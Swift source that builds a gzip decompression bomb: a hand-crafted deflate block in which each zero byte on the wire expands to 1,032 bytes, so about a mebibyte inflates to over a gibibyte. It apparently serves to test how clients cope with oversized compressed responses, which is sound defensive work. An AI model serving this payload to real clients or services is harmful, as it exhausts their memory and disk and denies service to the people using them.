/// A gzip body (RFC 1952) that is mostly zeros on the wire too, so that a gibibyte needs neither memory nor zlib here.
///
/// One deflate block (RFC 1951 §3.2.7) whose codes give one bit, 0, to "repeat 258 bytes" (symbol 285) and one bit, 0,
/// to "from one byte back" (distance 0). So after a first literal every two bits of zero are one repeat, and each zero
/// byte on the wire is 1,032 bytes.
enum Bomb {
    /// Up to the first literal. Its last byte has seven bits left, which are zero: three repeats and a half.
    static let opening: [UInt8] = {
        var bits = Bits(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255])
        bits.write(1, 1)  // the last block
        bits.write(2, 2)  // of dynamic codes
        bits.write(286 - 257, 5)
        bits.write(1 - 1, 5)
        bits.write(18 - 4, 4)
        // Lengths of the code-length codes, in the RFC's order: 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1.
        for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] { bits.write(length, 3) }
        // So length 1 is written 10, length 2 is 11, and "many zeros" (18) is 0.
        bits.code(1, 1)  // literal 0 has two bits: 10
        bits.zeroLengths(138)
        bits.zeroLengths(117)
        bits.code(1, 1)  // the end of the block, 256, has two bits: 11
        bits.zeroLengths(28)
        bits.code(1, 0)  // symbol 285 has one bit: 0
        bits.code(1, 0)  // distance 0 has one bit: 0
        bits.code(1, 0)  // the first literal
        return bits.bytes
    }()

    /// Zero bytes to send between ``opening`` and ``ending``.
    static let zeros = (1 << 30) / 1032

    /// The half repeat that is left, the end of the block, CRC-32 and size.
    static let ending: [UInt8] = [0b110] + littleEndian(0x95C7_EEAD) + littleEndian(UInt32(expanded))

    /// What a client that believes it gets: a gibibyte and a little more.
    static let expanded = 1 + 1032 * (zeros + 1)

    static let size = opening.count + zeros + ending.count

    private static func littleEndian(_ value: UInt32) -> [UInt8] { (0..<4).map { UInt8(value >> (8 * $0) & 0xFF) } }
}

/// Bits as deflate packs them: from the lowest up.
private struct Bits {
    private(set) var bytes: [UInt8]
    /// Bits still free in the last byte.
    private var free = 0

    init(bytes: [UInt8]) { self.bytes = bytes }

    mutating func write(_ value: Int, _ count: Int) {
        for bit in 0..<count {
            if free == 0 {
                bytes.append(0)
                free = 8
            }
            bytes[bytes.count - 1] |= UInt8((value >> bit) & 1) << (8 - free)
            free -= 1
        }
    }

    /// A Huffman code, which is written from its first bit on.
    mutating func code(_ bits: Int...) {
        for bit in bits { write(bit, 1) }
    }

    /// Code length 18: `count` (11–138) symbols without a code.
    mutating func zeroLengths(_ count: Int) {
        code(0)
        write(count - 11, 7)
    }
}
